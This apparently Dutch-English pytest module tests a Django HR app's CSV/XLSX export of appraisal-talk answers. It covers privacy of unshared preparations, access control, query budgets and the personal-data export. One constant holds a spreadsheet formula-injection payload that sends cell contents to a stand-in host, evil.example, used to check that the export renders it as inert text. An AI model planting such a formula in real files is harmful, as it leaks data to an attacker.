"""The talk reports of a cycle (gespreksverslagen, issue 20): every answer on the talk forms that is part
of the record, one row each, as CSV and XLSX for HR of the units; a preparation still private to its
author is never in it; a hostile answer stays text; the file costs as many queries at 40 reviews as at 4;
the personal-data export holds what the employee may see and what the person wrote themselves."""

import csv
import io
import json
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone
from openpyxl import load_workbook

from people.models import OrgUnit
from reviewcycle.models import Review, TalkAnswer
from reviewcycle.talk_forms.selectors import form_for, questions_of
from tests.downloads import content
from tests.reviewcycle.talk_forms.helpers import (
    EVA_SAYS,
    MAX_SAYS,
    answer,
    api,
    question,
    record_planning_talk,
)
from tests.test_export_formulas import assert_text_only
from tests.test_query_budgets import build
from tests.test_streaming_exports import _streamed

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def url(review, file_format="csv", language="nl") -> str:
    return f"/api/v1/cycles/{review.cycle_id}/talk-reports/?format={file_format}&language={language}"


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    return list(csv.reader(io.StringIO(content(response).decode("utf-8-sig"), newline=""), delimiter=";"))


def prepared(review, org):
    """Eva and Max each prepared the planning talk; neither shared."""
    assert (
        answer(org.employee.user, review, question(review, "planning", "employee").pk, EVA_SAYS).status_code
        == 200
    )
    assert (
        answer(org.manager.user, review, question(review, "planning", "manager").pk, MAX_SAYS).status_code
        == 200
    )


def test_private_preparations_are_not_exported_shared_and_recorded_answers_are(review, org):
    prepared(review, org)
    header, *rows = csv_rows(api(org.hr).get(url(review)))
    assert header[:5] == ["Personeelsnummer", "Medewerker", "Organisatie-eenheid", "Cyclus", "Gesprek"]
    assert rows == []  # both still their author's alone
    TalkAnswer.objects.filter(author=org.employee.user).update(shared_at=timezone.now())
    _header, *rows = csv_rows(api(org.hr).get(url(review)))
    assert [row[10] for row in rows] == [EVA_SAYS]
    assert rows[0][-1] == ""  # not recorded yet
    record_planning_talk(review, org)
    _header, *rows = csv_rows(api(org.hr).get(url(review)))
    employee_q = question(review, "planning", "employee")
    manager_q = question(review, "planning", "manager")
    by_answer = {row[10]: row for row in rows}
    assert set(by_answer) == {EVA_SAYS, MAX_SAYS}
    eva = by_answer[EVA_SAYS]
    assert eva[:2] == [org.employee.employee_number, org.employee.name]
    assert eva[4:6] == ["Planningsgesprek", "1"]
    assert eva[7] == employee_q.text
    assert eva[9] == org.employee.name
    assert eva[-1] == timezone.localdate().isoformat()  # the day the talk was recorded
    assert by_answer[MAX_SAYS][7] == manager_q.text
    assert by_answer[MAX_SAYS][9] == org.manager.name


def test_the_xlsx_in_english_has_dates_as_dates(review, org):
    prepared(review, org)
    record_planning_talk(review, org)
    response = api(org.hr).get(url(review, "xlsx", "en"))
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="talk-reports-{review.cycle_id}.xlsx"'
    sheet = load_workbook(io.BytesIO(content(response))).active
    header, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert header[4:] == [
        "Talk",
        "Talk number",
        "Section",
        "Question",
        "Answered by",
        "Author",
        "Answer",
        "Shared on",
        "Talk recorded on",
    ]
    assert {row[4] for row in rows} == {"Planning talk"}
    assert all(row[-1] is not None and hasattr(row[-1], "year") for row in rows)


def test_a_hostile_answer_comes_out_as_text(review, org):
    answer(org.employee.user, review, question(review, "planning", "employee").pk, HOSTILE)
    answer(org.manager.user, review, question(review, "planning", "manager").pk, MAX_SAYS)
    record_planning_talk(review, org)
    for file_format in ("csv", "xlsx"):
        response = api(org.hr).get(url(review, file_format))
        assert response.status_code == 200
        assert_text_only(content(response), file_format, [HOSTILE])


@pytest.mark.parametrize(
    ("who", "status"), [("employee", 403), ("manager", 403), ("hr_elsewhere", 404), ("hr", 200)]
)
def test_only_hr_of_the_units_gets_the_file(review, org, who, status):
    user = {
        "employee": org.employee.user,
        "manager": org.manager.user,
        "hr_elsewhere": org.hr_elsewhere,
        "hr": org.hr,
    }[who]
    assert api(user).get(url(review)).status_code == status
    assert api(org.hr).get(url(review, "pdf")).status_code == 400


def test_the_dashboard_links_the_talk_reports(review, org, client):
    client.force_login(org.hr)
    page = client.get(f"/reports/cycles/{review.cycle_id}/").content.decode()
    assert f"/api/v1/cycles/{review.cycle_id}/talk-reports/?format=csv" in page
    assert f"/api/v1/cycles/{review.cycle_id}/talk-reports/?format=xlsx" in page


def _answered(rows: int) -> dict:
    """``build(rows)`` with every planning question of every review answered and the talk recorded, and
    one private preparation each (never in the file)."""
    made = build(rows)
    # HR of one organisation among others, at 4 reviews as at 40 (``tests/test_query_budgets.py``)
    OrgUnit.objects.get_or_create(name="Buurgemeente", kind="organisation", parent=None)
    reviews = list(Review.objects.filter(cycle=made["cycle"]).select_related("employee__user", "manager"))
    questions = questions_of(form_for(reviews[0], "planning"))
    assert questions
    recorded = timezone.now()
    TalkAnswer.objects.bulk_create(
        TalkAnswer(
            review=review,
            question=item,
            author=review.employee.user if item.answered_by == "employee" else review.manager.user,
            value=f"Antwoord {review.pk}-{item.pk}",
            talk_recorded_at=recorded,
        )
        for review in reviews
        for item in questions
    )
    TalkAnswer.objects.bulk_create(
        TalkAnswer(
            review=review,
            question=questions[0],
            occurrence=2,
            author=review.employee.user,
            value="Nog privé",
        )
        for review in reviews
    )
    made["answers"] = len(reviews) * len(questions)
    return made


def test_the_export_streams_after_as_many_queries_at_40_reviews_as_at_4():
    counts = []
    for rows in (4, 40):
        made = _answered(rows)
        hr = get_user_model().objects.get(pk=made["hr"].pk)
        response, queries, body = _streamed(f"/api/v1/cycles/{made['cycle'].pk}/talk-reports/?format=csv", hr)
        assert (
            response["Content-Disposition"]
            == f'attachment; filename="gespreksverslagen-{made["cycle"].pk}.csv"'
        )
        assert body.count(b"\r\n") == made["answers"] + 1
        assert b"Nog priv" not in body
        counts.append(queries)
    assert counts[0] == counts[1], f"{counts[0]} queries to the first byte at 4 reviews, {counts[1]} at 40"


def test_the_whole_export_costs_a_fixed_number_of_queries(django_assert_max_num_queries):
    made = _answered(30)
    hr = get_user_model().objects.get(pk=made["hr"].pk)
    client = api(hr)
    with django_assert_max_num_queries(12):
        body = content(client.get(f"/api/v1/cycles/{made['cycle'].pk}/talk-reports/?format=csv"))
    assert body.count(b"\r\n") == made["answers"] + 1


def _personal_data(org, employee) -> dict:
    response = api(org.hr).get(f"/api/v1/people/{employee.pk}/personal-data/")
    assert response.status_code == 200
    return json.loads(zipfile.ZipFile(io.BytesIO(response.content)).read("gegevens.json"))


def test_the_personal_data_export_holds_the_answers_a_person_wrote_on_others_reviews(review, org):
    prepared(review, org)
    eva = _personal_data(org, org.employee)
    assert [row["value"] for row in eva["talk_answers"]] == [EVA_SAYS]  # Max's preparation is still his
    assert eva["talk_answers_written"] == []  # her own are in talk_answers already
    max_data = _personal_data(org, org.manager)
    written = max_data["talk_answers_written"]
    assert [(row["review"], row["value"]) for row in written] == [(review.pk, MAX_SAYS)]  # private or not
    assert EVA_SAYS not in json.dumps(max_data)
